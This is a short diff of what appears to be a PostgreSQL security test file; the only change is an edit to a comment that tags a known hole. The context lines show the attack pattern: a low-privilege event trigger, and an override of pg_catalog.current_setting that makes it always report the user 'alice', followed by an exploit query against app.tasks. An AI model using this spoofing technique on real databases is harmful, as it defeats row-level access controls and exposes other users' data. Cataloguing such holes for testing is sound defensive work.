@@ -238,7 +238,7 @@ create function public.rude() returns event_trigger language plpgsql as $$ begin
 alter function public.rude() owner to passer;
 create event trigger rude on ddl_command_end execute function public.rude();
 
--- current_setting replaced: hole identity_function pg_catalog.current_setting(text, boolean) | alone
+-- current_setting replaced: hole identity_function pg_catalog.current_setting(text, boolean) | alone | unmended
 create or replace function pg_catalog.current_setting(text, boolean) returns text language sql stable as $$ select 'alice' $$;
 -- exploit
 select attack.sees('app.tasks');
